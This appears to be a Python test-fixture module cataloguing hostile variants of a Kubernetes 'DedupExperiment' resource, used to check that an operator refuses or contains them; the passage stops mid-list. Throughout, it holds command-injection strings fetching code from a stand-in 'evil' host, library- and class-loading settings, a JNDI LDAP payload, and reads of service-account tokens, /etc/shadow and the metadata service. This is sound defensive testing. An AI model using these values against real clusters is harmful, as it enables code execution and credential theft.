"""A hostile experiment: what it tries, and what stops it or makes it harmless.

Whoever may create a DedupExperiment may do no more by it than by creating pods: reach no other namespace, no other
Secret, no shell, no flag of Helm, and no setting of a client that runs code. Each hostile experiment is the smallest
change to a good one (testbed/specs.py). What it meets is said here, and tried by tests/operator/test_hostile.py
without any cluster, since an operator must not trust that the resource's definition was there; what the API server
itself says is tried by tests/kubernetes/test_hostile.py.
"""

from collections.abc import Iterator
from enum import StrEnum
from typing import Any, Final, NamedTuple

from testbed.specs import ABSENT, changed

KAFKA: Final = "spec/systems/0"
PULSAR: Final = "spec/systems/1"
FAULT: Final = "spec/faults/0"
SECRET: Final = "hunter2"
"""What no message may repeat."""


class Gate(StrEnum):
    """What the operator does with it, whatever the API server has let through."""

    REFUSED = "the models refuse it, and nothing is made"
    STALLED = "the operator looks at what it names, and makes nothing"
    HARMLESS = "it is run, and all that is made keeps its bounds"


class AtApply(StrEnum):
    """What the API server does with it."""

    REFUSED = "refused"
    ACCEPTED = "accepted"
    NOT_SENT = "no client can write it down"


class Hostile(NamedTuple):
    """`tries` says what for. What is harmless says why, in `because`."""

    name: str
    tries: str
    changes: tuple[tuple[str, object], ...]
    gate: Gate = Gate.REFUSED
    at_apply: AtApply = AtApply.REFUSED
    because: str = ""

    @property
    def document(self) -> dict[str, Any]:
        return changed(*self.changes)


def harmless(name: str, tries: str, because: str, *changes: tuple[str, object]) -> Hostile:
    """One that is taken as it is."""
    return Hostile(name, tries, changes, Gate.HARMLESS, AtApply.ACCEPTED, because)


# Hostile settings of clients: libraries, commands, files, addresses, and names that look like innocent ones.
#
# Names of librdkafka, of Pulsar's client and of Java's clients, which do not run here: a list of what is allowed knows
# no difference between what is dangerous and what is unknown.

TOKEN: Final = "/var/run/secrets/kubernetes.io/serviceaccount/token"
METADATA_SERVICE: Final = "http://169.254.169.254/latest/meta-data/"


def kafka(name: str, value: str, tries: str) -> Hostile:
    return Hostile(f"kafka: {name!r}", tries, ((f"{KAFKA}/client", {"properties": {name: value}}),))


def pulsar(name: str, value: str, tries: str) -> Hostile:
    return Hostile(f"pulsar: {name!r}", tries, ((f"{PULSAR}/client", {"properties": {name: value}}),))


LIBRDKAFKA: Final = (
    kafka("plugin.library.paths", "/history/evil.so", "load a library"),
    kafka("ssl.engine.location", "/history/evil.so", "load an OpenSSL engine"),
    kafka("ssl.engine.id", "dynamic", "choose an OpenSSL engine"),
    kafka("ssl.providers", "/history/evil", "load an OpenSSL provider"),
    kafka("sasl.kerberos.kinit.cmd", "sh -c 'curl evil | sh'", "run a command"),
    kafka("sasl.kerberos.keytab", "/etc/krb5.keytab", "use the node's identity"),
    kafka("sasl.kerberos.principal", "root", "be somebody else"),
    kafka("sasl.kerberos.service.name", "$(id)", "have it put into a command"),
    kafka("ssl.key.location", TOKEN, "read a file of the pod"),
    kafka("ssl.certificate.location", TOKEN, "show a file of the pod to a server"),
    kafka("ssl.keystore.location", TOKEN, "read a file of the pod"),
    kafka("ssl.ca.location", "/etc/shadow", "read a file of the pod"),
    kafka("ssl.crl.location", "/proc/1/environ", "read a file of the pod"),
    kafka("ssl.ca.certificate.stores", "Root", "choose whom to trust"),
    kafka("ssl.key.pem", SECRET, "have a key stand in the resource"),
    kafka("ssl.key.password", SECRET, "have a password stand in the resource"),
    kafka("https.ca.location", "/etc/shadow", "read a file of the pod"),
    kafka("enable.ssl.certificate.verification", "false", "trust anybody"),
    kafka("ssl.endpoint.identification.algorithm", "none", "trust anybody"),
    kafka("security.protocol", "SASL_SSL", "authenticate past the Secret"),
    kafka("sasl.mechanisms", "PLAIN", "authenticate past the Secret"),
    kafka("sasl.username", "admin", "authenticate past the Secret"),
    kafka("sasl.password", SECRET, "have a password stand in the resource"),
    kafka("sasl.oauthbearer.method", "oidc", "make HTTP requests"),
    kafka("sasl.oauthbearer.token.endpoint.url", METADATA_SERVICE, "ask the cloud's metadata service"),
    kafka("sasl.oauthbearer.metadata.authentication.type", "azure_imds", "ask the cloud's metadata service"),
    kafka("sasl.oauthbearer.client.secret", SECRET, "have a password stand in the resource"),
    kafka("sasl.oauthbearer.config", "principal=admin", "be somebody else"),
    kafka("sasl.oauthbearer.assertion.file", TOKEN, "send a file of the pod away"),
    kafka("sasl.oauthbearer.assertion.private.key.file", TOKEN, "read a file of the pod"),
    kafka("sasl.oauthbearer.assertion.jwt.template.file", TOKEN, "send a file of the pod away"),
    kafka("enable.sasl.oauthbearer.unsecure.jwt", "true", "be anybody"),
    kafka("bootstrap.servers", "kafka.production.svc:9092", "write to somebody else's brokers"),
    kafka("metadata.broker.list", "kafka.production.svc:9092", "the same by its other name"),
    kafka("client.dns.lookup", "resolve_canonical_bootstrap_servers_only", "be sent to other brokers"),
    kafka("group.id", "theirs", "join somebody else's group"),
    kafka("transactional.id", "theirs", "fence somebody else's producer"),
    kafka("enable.idempotence", "false", "take back what the variant is to show"),
    kafka("test.mock.num.brokers", "3", "be judged on brokers that are not real"),
    kafka("internal.termination.signal", "9", "have signals sent"),
    kafka("offset.store.path", "/history/../etc", "write a file"),
    kafka("debug", "all", "fill the node's disk with logs, settings in them"),
    kafka("log_cb", "os.system", "name a function"),
    kafka("error_cb", "os.system", "name a function"),
    kafka("oauth_cb", "os.system", "name a function"),
    kafka("logger", "root", "be given an object"),
    kafka("on_delivery", "print", "hear of outcomes first"),
    kafka("default.topic.config", "{}", "set what a topic's producer has, unseen"),
    kafka("message.timeout.ms", "1", "have the tester's own sends fail"),
    kafka("queue.buffering.max.messages", "10000000", "take all of the pod's memory"),
    kafka("statistics.interval.ms", "1", "drown the tester in statistics"),
)

JAVA: Final = (
    kafka("sasl.jaas.config", 'com.sun.security.auth.module.JndiLoginModule required url="ldap://evil";', "run code"),
    kafka("security.providers", "evil.Provider", "load a class"),
    kafka("interceptor.classes", "evil.Interceptor", "load a class"),
    kafka("metric.reporters", "evil.Reporter", "load a class"),
    kafka("partitioner.class", "evil.Partitioner", "load a class"),
    kafka("key.serializer", "evil.Serializer", "load a class"),
    kafka("sasl.login.callback.handler.class", "evil.Handler", "load a class"),
    kafka("ssl.truststore.location", "/etc/shadow", "read a file of the pod"),
    kafka("config.providers", "env", "have ${env:NAME} filled in"),
)

LOOK_ALIKES: Final = (
    kafka("Plugin.Library.Paths", "/history/evil.so", "another case"),
    kafka(" plugin.library.paths", "/history/evil.so", "a space in front"),
    kafka("plugin.library.paths\n", "/history/evil.so", "a line break behind"),
    kafka("plugin\u2024library\u2024paths", "/history/evil.so", "dots that are others"),
    kafka("linger.ms\nplugin.library.paths", "x", "two names in one"),
    kafka("linger.ms=0\u0000", "x", "an end before the end"),
    kafka("linger\u200b.ms", "0", "a space of no width"),
    kafka("l\u0456nger.ms", "0", "a letter of another alphabet"),
    kafka("topic.plugin.library.paths", "x", "a prefix that a library may cut off"),
    kafka("--linger.ms", "0", "a flag"),
    kafka("", "x", "no name at all"),
    kafka("__class__", "x", "a name that Python knows"),
)

PULSARS: Final = (
    pulsar("authentication", "evil.Auth", "load a plugin"),
    pulsar("auth_plugin", "/history/evil.so", "load a library"),
    pulsar("authPluginClassName", "evil.Auth", "load a class (Java's name)"),
    pulsar("service_url", "pulsar://broker.production.svc:6650", "write to somebody else's brokers"),
    pulsar("listener_name", "internal", "take another way"),
    pulsar("tls_trust_certs_file_path", "/etc/shadow", "read a file of the pod"),
    pulsar("tls_private_key_file_path", TOKEN, "read a file of the pod"),
    pulsar("tls_certificate_file_path", TOKEN, "show a file of the pod to a server"),
    pulsar("tls_allow_insecure_connection", "true", "trust anybody"),
    pulsar("crypto_key_reader", "evil.Reader", "name an object"),
    pulsar("schema", "evil.Schema", "name a class"),
    pulsar("message_router", "os.system", "name a function"),
    pulsar("logger", "root", "be given an object"),
    pulsar("producer_name", "theirs", "fence somebody else's producer"),
    pulsar("initial_sequence_id", "999999999", "have every message taken for a duplicate"),
    pulsar("linger.ms", "0", "a setting of the other client"),
    pulsar("__init__", "x", "a name that Python knows"),
)

_TEXT: Final = "it stands in the JSON that the run's pod reads, is given to librdkafka as text, and nowhere else"

VALUES: Final = tuple(
    harmless(f"a value: {what}", tries, _TEXT, (f"{KAFKA}/client", {"properties": {"client.id": value}}))
    for what, value, tries in (
        ("a variable", "$(AWS_SECRET_ACCESS_KEY)", "have Kubernetes put a key there"),
        ("a template", "{{ .Values.owner.uid }}{{ lookup }}", "have Helm fill it in"),
        ("an end of a text", '"}, "endpoints": {"direct_bootstrap": "evil"}}', "close the JSON"),
        ("more YAML", "x\nhostNetwork: true\n---\nkind: Pod", "add a document"),
        ("a shell", "'; curl evil | sh; `id` $(id) #", "be read by a shell"),
        ("a flag", "--kubeconfig=/tmp/evil", "be read as a flag"),
        ("a hidden one", "\u202e\u0000\u001b[2J", "fool whoever looks at it"),
        ("as long as may be", "\U0001f4a5" * 1024, "fill everything"),
    )
)

CLIENTS: Final = (*LIBRDKAFKA, *JAVA, *LOOK_ALIKES, *PULSARS, *VALUES)


# Hostile names, versions and tokens: texts that end in commands, labels, folders, and values for Helm.

INJECTIONS: Final = (
    ("a flag", "--kubeconfig=/tmp/evil", "be read as a flag of helm or of a program"),
    ("a short flag", "-f", "be read as a flag"),
    ("a way up", "../../kube-system", "reach another namespace's objects, or another folder"),
    ("a folder", "a/b", "stand in another place of a path"),
    ("two lines", "a\nhostNetwork: true", "add a key to YAML"),
    ("a line break behind", "a\n", "pass a pattern that ends with $"),
    ("a variable", "$(AWS_SECRET_ACCESS_KEY)", "have Kubernetes put a key into a command"),
    ("a shell", "a;curl evil|sh", "be read by a shell"),
    ("a command in quotes", "`id`", "be read by a shell"),
    ("a template", "{{ .Values }}", "be filled in by Helm"),
    ("an end of a text", 'a"}', "close a JSON text"),
    ("a letter of another alphabet", "k\u0430fka", "look like another"),
    ("a wide letter", "\uff4bafka", "look like another"),
    ("an end before the end", "a\u0000b", "be cut off somewhere"),
    ("half a character", "\ud800", "break whoever writes it down"),
)


def injected(what: str, place: str) -> Iterator[Hostile]:
    for kind, text, tries in INJECTIONS:
        at_apply = AtApply.NOT_SENT if text == "\ud800" else AtApply.REFUSED
        yield Hostile(f"{what}: {kind}", tries, ((place, text),), at_apply=at_apply)


NAMES: Final = (
    *injected("an experiment's name", "metadata/name"),
    *injected("a system's name", f"{KAFKA}/name"),
    *injected("a fault's name", f"{FAULT}/name"),
    *injected("a token", "spec/runToken"),
    Hostile("a variant that is a flag", "be read as a flag", (("spec/variants/0/name", "--x"),)),
    Hostile("a variant that climbs", "another folder", (("spec/variants/0/name", "../x"),)),
    Hostile("a name too long for a label", "break every object", (("metadata/name", "x" * 64),)),
    Hostile("a system too long for a container", "break every object", ((f"{KAFKA}/name", "x" * 64),)),
    Hostile("a fault too long for a container", "break a run's pod", ((f"{FAULT}/name", "x" * 60),)),
    Hostile("a token too long for a label", "break the status", (("spec/runToken", "x" * 64),)),
    Hostile("a token that is a number", "be something else in each place", (("spec/runToken", 7),)),
    Hostile("a fault called latency", "be taken for the link's own", ((f"{FAULT}/name", "latency"),)),
    Hostile("two systems of one name", "share a release", ((f"{PULSAR}/name", "kafka"),)),
    Hostile(
        "two faults of one name",
        "share a container",
        (("spec/faults/-", {"name": "cut", "at": {"message": 1}, "moveLeader": {}}),),
    ),
    Hostile(
        "two runs of one name",
        "have one run's history taken for another's",
        (
            *((f"{KAFKA}/name", "a"), (f"{PULSAR}/name", "a-b")),
            *(("spec/variants/0/name", "b-c"), ("spec/variants/1/name", "c")),
        ),
    ),
    harmless(
        "a fault called like a program",
        "take the conductor's place",
        "its container is chaos-conductor",
        (f"{FAULT}/name", "conductor"),
    ),
    harmless(
        "a system called like a part",
        "take another part's name",
        "a name is made from whose part it is and which, and the token is no part",
        *((f"{KAFKA}/name", "report"), (f"{PULSAR}/name", "snapshot"), ("spec/runToken", "readiness")),
    ),
    harmless(
        "an experiment called like ours",
        "take our objects for its own",
        "what it makes is called by its UID, and what belongs to no other is never adopted",
        ("metadata/name", "dedup-operator"),
    ),
    harmless(
        "the longest names",
        "break labels and containers",
        "the bounds leave room for what is put in front",
        *(("metadata/name", "x" * 40), (f"{KAFKA}/name", "y" * 40), ("spec/variants/0/name", "z" * 40)),
        *((f"{FAULT}/name", "f" * 40), ("spec/runToken", "t" * 63)),
    ),
    harmless("a token of odd signs", "break a label", "it is in no name and no label", ("spec/runToken", "A._-")),
)

VERSIONS: Final = (
    *(
        Hostile(f"a version: {what}", tries, ((f"{KAFKA}/kafka", {"version": text}),))
        for what, text, tries in (
            *(("more flags", "4.3.1 --set image.repository=evil", "be read as a flag of helm"),),
            *(("a shell", "4.3.1;id", "be read by a shell"), ("a line more", "4.3.1\nx: y", "add a key to values")),
            *(("a template", "{{ .Files }}", "be filled in by Helm"), ("a variable", "$(X)", "be filled in")),
            *(("another image", "evil.io/kafka:4.3.1", "run another image"), ("a way up", "../4.3.1", "another chart")),
            *(("a digest", "4.3.1@sha256:00", "run another image"), ("the latest", "latest", "run what comes")),
        )
    ),
    Hostile("a version of Pulsar with a flag", "be read as a flag", ((f"{PULSAR}/pulsar", {"version": "--debug"}),)),
    harmless(
        "a version that nobody made",
        "run another image",
        "it is a tag of the administrator's own repository, and the charts know 4.x.y only",
        (f"{KAFKA}/kafka", {"version": "9.9.9-evil"}),
    ),
)

TEXTS: Final = (*NAMES, *VERSIONS)


# Hostile places for artifacts: other people's Secrets, claims, buckets and addresses.
#
# What a pod of the namespace could do as well is let through on purpose: mount any claim of the namespace, ask any
# address. A store's keys are another matter: who may create pods may read every Secret of the namespace, who may create
# experiments may not, so a Secret's owner has to consent by a label.

S3: Final = "spec/artifacts/s3"
BUCKET: Final = (f"{S3}/bucket", "results")
PVC: Final = "spec/artifacts/pvc"
LABELLED: Final = "keys"
UNLABELLED: Final = "passwords"
HELMS: Final = "sh.helm.release.v1.theirs.v1"
"""Secrets that the tests' namespace has; only the first has the label."""

SECRETS: Final = (
    *(
        Hostile(f"a Secret: {what}", tries, (BUCKET, (f"{S3}/secretRef", reference)))
        for what, reference, tries in (
            ("of another namespace", {"name": "kube-system/keys"}, "read another namespace's Secret"),
            ("a way up", {"name": "../../kube-system/secrets/keys"}, "read another namespace's Secret"),
            ("a namespace beside it", {"name": "keys", "namespace": "kube-system"}, "another namespace's Secret"),
            ("a key of it", {"name": "keys", "key": "root-password"}, "have another key put into a pod"),
            ("optional", {"name": "keys", "optional": True}, "run without"),
            ("a selector", {"name": "keys", "labelSelector": {}}, "have any Secret taken"),
            ("a query", {"name": "keys?fieldManager=x"}, "change the operator's request"),
            ("all of them", {"name": ""}, "have all Secrets listed"),
            ("two", {"name": "keys,passwords"}, "have a second one read"),
            ("in capitals", {"name": "Keys"}, "pass a check that folds case"),
            ("too long", {"name": "k" * 254}, "break the request"),
            ("a variable", {"name": "$(SECRET)"}, "have it filled in"),
        )
    ),
    Hostile("a key in the open", "have it stand in the resource", (BUCKET, (f"{S3}/secretAccessKey", "hunter2"))),
    Hostile(
        "a Secret without a label",
        "use keys whose owner did not consent",
        (BUCKET, (f"{S3}/secretRef", {"name": UNLABELLED})),
        Gate.STALLED,
        AtApply.ACCEPTED,
    ),
    Hostile(
        "a Secret that is not there",
        "be the first to make it",
        (BUCKET, (f"{S3}/secretRef", {"name": "none"})),
        Gate.STALLED,
        AtApply.ACCEPTED,
    ),
    Hostile(
        "a Secret of Helm",
        "have a release's values read",
        (BUCKET, (f"{S3}/secretRef", {"name": HELMS})),
        Gate.STALLED,
        AtApply.ACCEPTED,
    ),
    harmless(
        "a Secret with a label, for another store",
        "have the keys sent to one's own server",
        "S3 signs with keys and never sends them, and their owner consented",
        *(BUCKET, (f"{S3}/secretRef", {"name": LABELLED}), (f"{S3}/endpoint", "http://evil.example")),
    ),
    harmless(
        "the administrator's bucket without his keys",
        "write with keys of the chart's settings",
        "an experiment's own store has its own keys or none",
        BUCKET,
    ),
)

PREFIXES: Final = (
    *(
        Hostile(f"a prefix: {what}", tries, (BUCKET, (f"{S3}/prefix", text)))
        for what, text, tries in (
            ("a way up", "../others", "write into another experiment's histories"),
            ("a way up inside", "a/../../others", "the same"),
            ("nothing but up", "..", "the same"),
            ("here", ".", "be shortened to nothing"),
            ("from the root", "/etc", "write to the pod's own files"),
            ("another store", "s3://others/x", "write into another bucket"),
            ("a gap", "a//b", "be read differently by two programs"),
            ("an end", "a/", "the same"),
            ("backslashes", "a\\..\\b", "climb elsewhere"),
            ("written otherwise", "a/%2e%2e/b", "climb once it is decoded"),
            ("a variable", "$(AWS_SECRET_ACCESS_KEY)", "have a key stand in a URI"),
            ("a template", "{{ .Values }}", "be filled in by Helm"),
            ("words", "a --keep /etc", "be read as further arguments"),
            ("two lines", "a\nb", "be read as two"),
            ("a question", "a?versionId=1", "change a request"),
            ("a pattern", "a*", "be read as many"),
            ("too long", "a" * 513, "break a key's bound"),
        )
    ),
    harmless(
        "a prefix that looks like a flag",
        "be read as a flag",
        "it stands within a URI",
        *(BUCKET, (f"{S3}/prefix", "-rf")),
    ),
    harmless(
        "the longest prefix and address",
        "break the objects",
        "their bounds are the resource's",
        *(BUCKET, (f"{S3}/prefix", "/".join(["a" * 7] * 64)), (f"{S3}/endpoint", f"https://{'a.' * 126}b:65535")),
    ),
)

BUCKETS: Final = tuple(
    Hostile(f"a bucket: {what}", tries, ((f"{S3}/bucket", text),))
    for what, text, tries in (
        ("a way up", "../b", "another bucket"),
        ("with a prefix", "others/x", "write beside one's folder"),
        ("a flag", "--endpoint-url=x", "be read as a flag"),
        ("a variable", "$(AWS_SECRET_ACCESS_KEY)", "have a key stand in a URI"),
        ("an ARN", "arn:aws:s3:::others", "another account's bucket"),
        ("with a password", "u:p@b", "be read as an address"),
    )
)

ADDRESSES: Final = (
    *(
        Hostile(f"an address: {what}", tries, (BUCKET, (f"{S3}/endpoint", text)))
        for what, text, tries in (
            ("a file", "file:///etc/passwd", "read a file of the pod"),
            ("another protocol", "gopher://store:70", "speak to what is no store"),
            ("with a password", "http://user:hunter2@store", "have it stand in the resource"),
            ("with a path", "http://store/admin?x=", "change requests"),
            ("with a fragment", "http://store#", "cut requests off"),
            ("a variable", "http://$(AWS_SECRET_ACCESS_KEY).evil", "have a key sent in a name"),
            ("a template", "http://{{ .Values }}", "be filled in by Helm"),
            ("two lines", "http://store\nX: y", "add a header"),
            ("a port that is none", "http://store:999999", "break clients"),
            ("in brackets", "http://[fd00:ec2::254]", "hide an address"),
            ("a look-alike", "http://st\u043ere", "look like another"),
        )
    ),
    *(
        harmless(f"an address: {what}", tries, because, BUCKET, (f"{S3}/endpoint", text))
        for what, text, tries, because in (
            ("the metadata service", "http://169.254.169.254", "ask for the node's keys", "any pod may ask it"),
            ("the API server", "https://kubernetes.default.svc", "ask as our account", "S3's client sends no token"),
            ("another namespace", "http://minio.others.svc:9000", "reach its store", "any pod reaches any Service"),
            (
                "the pod itself",
                "http://127.0.0.1:8474",
                "command the Toxiproxy",
                "it speaks no S3, and is the run's own",
            ),
            ("no name", "http://-", "break clients", "it is resolved by nobody, and the run ends in words"),
        )
    ),
    *(
        Hostile(f"a region: {what}", tries, (BUCKET, (f"{S3}/region", text)))
        for what, text, tries in (
            ("a variable", "$(AWS_SECRET_ACCESS_KEY)", "have a key stand in an address"),
            ("an address", "x.evil.com/", "be put into an address"),
        )
    ),
)

CLAIMS: Final = (
    *(
        Hostile(f"a claim: {what}", tries, ((PVC, claim),))
        for what, claim, tries in (
            ("a way up", {"claimName": "../theirs"}, "another namespace's claim"),
            ("of another namespace", {"claimName": "others/theirs"}, "another namespace's claim"),
            ("a namespace beside it", {"claimName": "c", "namespace": "others"}, "another namespace's claim"),
            ("a folder", {"claimName": "c", "folder": "../.."}, "another folder of the volume"),
            ("a sub-path", {"claimName": "c", "subPath": "../.."}, "another folder of the volume"),
            ("a path of the node", {"claimName": "c", "hostPath": "/"}, "mount the node's disk"),
            ("a variable", {"claimName": "$(CLAIM)"}, "have it filled in"),
        )
    ),
    Hostile("a path of the node", "mount the node's disk", (("spec/artifacts", {"hostPath": {"path": "/"}}),)),
    Hostile("an NFS", "mount another disk", (("spec/artifacts", {"nfs": {"server": "x", "path": "/"}}),)),
    Hostile("both", "have one checked and the other used", (BUCKET, (PVC, {"claimName": "c"}))),
    harmless(
        "somebody else's claim",
        "read and write their volume",
        "any pod of the namespace may mount it, and ours write below one folder of it",
        (PVC, {"claimName": "theirs"}),
    ),
)

STORES: Final = (*SECRETS, *PREFIXES, *BUCKETS, *ADDRESSES, *CLAIMS)


# Hostile systems that are there already: other people's brokers, and Secrets that go to them.
#
# Any address may be asked, as any pod may ask it. What is shown there is another matter: a Secret goes only where its
# owner let it go, by a label, and whoever labels one for experiments lets each of them show it to any address.

AT: Final = f"{KAFKA}/deploy/existing"
BOOTSTRAP: Final = (f"{AT}/bootstrap", "kafka.prod:9092")
NO_FAULTS: Final[tuple[str, object]] = ("spec/faults", [])
URLS: Final = {"serviceUrl": "pulsar://pulsar:6650", "adminUrl": "http://pulsar:8080"}

SYSTEMS: Final = (
    *(
        Hostile(f"brokers: {what}", tries, ((f"{AT}/bootstrap", address),))
        for what, address, tries in (
            ("with a setting", "a:1,ssl.key.location=/etc/passwd", "read a file of the pod"),
            ("of two lines", "a:1\nplugin.library.paths=/history/x.so", "load a library"),
            ("a variable", "$(AWS_SECRET_ACCESS_KEY):9092", "have a key filled in and sent"),
            ("a flag", "--output=/history/x:1", "give a program a flag"),
        )
    ),
    *(
        Hostile(f"a log-in: {what}", tries, (BOOTSTRAP, (f"{AT}/sasl", {"mechanism": "PLAIN", **more})))
        for what, more, tries in (
            ("in the open", {"password": "hunter2"}, "have it stand in the resource"),
            ("of another namespace", {"secretRef": {"name": "others/keys"}}, "read another namespace's Secret"),
            ("another key", {"secretRef": {"name": LABELLED, "key": "root"}}, "have another key put into a pod"),
            ("by a command", {"secretRef": {"name": LABELLED}, "kinit": "sh"}, "run a command"),
        )
    ),
    Hostile(
        "a password to brokers of theirs, in the open",
        "hear a password on the way",
        (NO_FAULTS, BOOTSTRAP, (f"{AT}/sasl", {"mechanism": "PLAIN", "secretRef": {"name": LABELLED}})),
    ),
    *(
        Hostile(
            f"a log-in at their brokers with {what}",
            "send it to an address of theirs",
            (NO_FAULTS, BOOTSTRAP, (f"{AT}/sasl", {"mechanism": "SCRAM-SHA-512", "secretRef": {"name": name}})),
            Gate.STALLED,
            AtApply.ACCEPTED,
        )
        for what, name in (
            ("a Secret without a label", UNLABELLED),
            ("a Secret of Helm", HELMS),
            ("a Secret that has other keys", LABELLED),
        )
    ),
    harmless(
        "an address of theirs",
        "have brokers asked that others own",
        "a pod may ask any address; nothing is shown there, and no fault is injected",
        *(("spec/systems", [{"name": "k", "kafka": {}, "deploy": {"existing": {"bootstrap": "kafka.prod:9092"}}}]),),
        NO_FAULTS,
    ),
    Hostile(
        "a Pulsar's token in the open",
        "have it stand in the resource",
        ((f"{PULSAR}/deploy/existing", {**URLS, "token": "hunter2"}),),
    ),
)


# Hostile shapes: keys that do not exist here, faults on what is not ours, numbers, lists and depths without an end.
#
# And what stands in an object's metadata, which the operator never reads: it takes the name and the spec, and all else
# of a resource is Kubernetes'.

KILL: Final = (f"{FAULT}/killTCP", ABSENT)


def nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value]
    return value


SMUGGLED: Final = tuple(
    Hostile(f"a key: {place.removeprefix('spec/')}", tries, ((place, value),))
    for place, value, tries in (
        ("spec/podTemplate", {"spec": {"hostNetwork": True}}, "use the node's network"),
        ("spec/template", {"spec": {"containers": [{"image": "evil"}]}}, "run another program"),
        ("spec/image", "evil:latest", "run another program"),
        ("spec/command", ["sh", "-c", "id"], "run a shell"),
        ("spec/env", [{"name": "LD_PRELOAD", "value": "/history/evil.so"}], "load a library"),
        ("spec/securityContext", {"privileged": True}, "have the node's rights"),
        ("spec/hostNetwork", True, "use the node's network"),
        ("spec/serviceAccount", "dedup-operator", "run with the operator's rights"),
        ("spec/namespace", "kube-system", "make objects in another namespace"),
        ("spec/owner", {"uid": "0"}, "belong to somebody else"),
        ("spec/sparkConf", {"spark.driver.extraJavaOptions": "-javaagent:evil.jar"}, "load a library into Spark"),
        ("spec/settings", {"runnerImage": {"repository": "evil", "tag": "x"}}, "say what the administrator says"),
        (f"{KAFKA}/deploy", {"chart": "oci://evil.io/chart", "values": {"command": ["sh"]}}, "install another chart"),
        (f"{KAFKA}/deploy/chart", "--post-renderer=/tmp/evil", "give helm a flag that runs a program"),
        (f"{KAFKA}/values", {"image": {"repository": "evil"}}, "give the chart values"),
        (f"{KAFKA}/kafka/image", "evil", "run another image"),
        (f"{KAFKA}/kafka/config", {"metric.reporters": "evil"}, "load a class into the broker"),
        (f"{KAFKA}/kafka/jvmOptions", "-javaagent:evil.jar", "load a library into the broker"),
        (f"{KAFKA}/client/command", "sh", "run another client"),
        (f"{KAFKA}/client/library", "../../evil", "load another module"),
        (f"{KAFKA}/client/path", "/history/evil.py", "load another module"),
        (f"{KAFKA}/network/address", "10.0.0.1", "stand in somebody else's path"),
        ("spec/workload/command", "sh", "run another producer"),
        ("spec/timeouts/grace", "0s", "leave a fault unhealed"),
    )
)

FAULTS: Final = (
    *(
        Hostile(f"a fault: {what}", tries, (KILL, (f"{FAULT}/{kind}", settings)))
        for what, kind, settings, tries in (
            ("of another namespace", "kill", {"restartAfter": "1s", "namespace": "others"}, "kill others' brokers"),
            ("of any pod", "podDelete", {"selector": {}}, "delete every pod of the namespace"),
            ("of a pod by name", "podDelete", {"pod": "dedup-operator-0"}, "delete the operator"),
            ("with a command", "kill", {"restartAfter": "1s", "command": "sh -c id"}, "run a command in a pod"),
            ("in a container", "kill", {"restartAfter": "1s", "container": "vault"}, "kill another program"),
            ("with a signal", "kill", {"restartAfter": "1s", "signal": "CONT"}, "send another signal"),
            ("of everybody", "kill", {"restartAfter": "1s", "target": "All"}, "kill more than one"),
            ("of a pattern", "kill", {"restartAfter": "1s", "target": "*"}, "kill more than one"),
            ("with a policy", "partition", {"by": "NetworkPolicy", "duration": "1s", "podSelector": {}}, "cut all off"),
            ("by other means", "partition", {"by": "sh", "duration": "1s"}, "run a program"),
            ("for ever", "partition", {"by": "NetworkPolicy", "duration": "999h"}, "leave a policy behind"),
            ("without an end", "kill", {"restartAfter": "999999999h"}, "keep a broker down"),
            ("of a node", "drain", {"node": "n"}, "drain a node"),
            ("with privileges", "partition", {"by": "NetFilter", "duration": "1s"}, "add NET_ADMIN unasked"),
        )
    ),
    Hostile(
        "a fault with privileges, allowed by its author",
        "add NET_ADMIN to a broker's pod without the administrator",
        (("spec/allowPrivilegedFaults", True), KILL, (f"{FAULT}/partition", {"by": "NetFilter", "duration": "1s"})),
        Gate.STALLED,
        AtApply.ACCEPTED,
    ),
    harmless(
        "a pod deleted at once",
        "delete others' pods",
        "only brokers' pods that consent by label are struck, by names that follow from the release",
        *(KILL, (f"{FAULT}/podDelete", {"gracePeriod": "0s"})),
    ),
)

NUMBERS: Final = (
    *(
        Hostile(f"a number: {place.removeprefix('spec/')} {str(value)[:12]}", tries, ((place, value),), at_apply=sent)
        for place, value, tries, sent in (
            ("spec/workload/messages", 10**30, "fill the store", AtApply.REFUSED),
            ("spec/workload/messages", -1, "count backwards", AtApply.REFUSED),
            ("spec/workload/inFlight", 10**9, "take all of the node's memory", AtApply.REFUSED),
            ("spec/workload/partitions", 10**6, "fill the brokers", AtApply.REFUSED),
            ("spec/runs", 10**6, "keep the operator busy for ever", AtApply.REFUSED),
            ("spec/seed", 2**64, "overflow", AtApply.REFUSED),
            ("spec/seed", 10**1000, "overflow", AtApply.REFUSED),
            ("spec/seed", float("nan"), "compare with nothing", AtApply.NOT_SENT),
            ("spec/confidencePercent", float("inf"), "never be reached", AtApply.NOT_SENT),
            ("spec/confidencePercent", 1e308, "overflow", AtApply.REFUSED),
            (f"{KAFKA}/kafka/brokers", 1000, "fill the nodes", AtApply.REFUSED),
            (f"{KAFKA}/network/latency", "999999999h", "never end", AtApply.REFUSED),
            ("spec/timeouts/run", "999999999h", "never end", AtApply.REFUSED),
            ("spec/timeouts/run", "1e9s", "be read differently by two programs", AtApply.REFUSED),
            ("spec/timeouts/run", "\u0661\u0660s", "be digits to one program and none to another", AtApply.REFUSED),
            (f"{FAULT}/at/message", 0, "strike before anything", AtApply.REFUSED),
        )
    ),
    Hostile(
        "as many runs as each bound lets through",
        "take all of the operator's memory for the plan",
        (
            ("spec/systems", [{"name": f"s{index}", "kafka": {}} for index in range(8)]),
            (
                "spec/variants",
                [{"name": f"v{index}", "deduplication": "Enabled", "expect": "None"} for index in range(8)],
            ),
            ("spec/runs", 1000),
        ),
    ),
    harmless(
        "no time at all",
        "be begun again without an end",
        "what is not ready in time has failed, and the experiment ends",
        *(("spec/timeouts", {"provision": "1ms", "run": "60s", "verify": "1ms", "teardown": "1ms"}),),
    ),
)

SIZES: Final = (
    Hostile(
        "a thousand faults",
        "fill a pod with containers",
        (("spec/faults", [{"name": f"f{n}", "at": {"message": 1}, "moveLeader": {}} for n in range(1000)]),),
    ),
    Hostile("nine systems", "fill the nodes", (("spec/systems", [{"name": f"s{n}", "kafka": {}} for n in range(9)]),)),
    Hostile(
        "a thousand settings",
        "fill etcd",
        ((f"{KAFKA}/client", {"properties": {f"p{n}": "x" for n in range(1000)}}),),
    ),
    Hostile("a long setting", "fill etcd", ((f"{KAFKA}/client", {"properties": {"client.id": "x" * 100_000}}),)),
    Hostile("a setting of a long name", "fill etcd", ((f"{KAFKA}/client", {"properties": {"x" * 100_000: ""}}),)),
    Hostile("a long name", "fill messages", ((f"{KAFKA}/name", "x" * 100_000),)),
    Hostile("a hundred lists in each other", "exhaust a stack", (("spec/seed", nested(100)),)),
    Hostile(
        "five thousand lists in each other",
        "exhaust a stack",
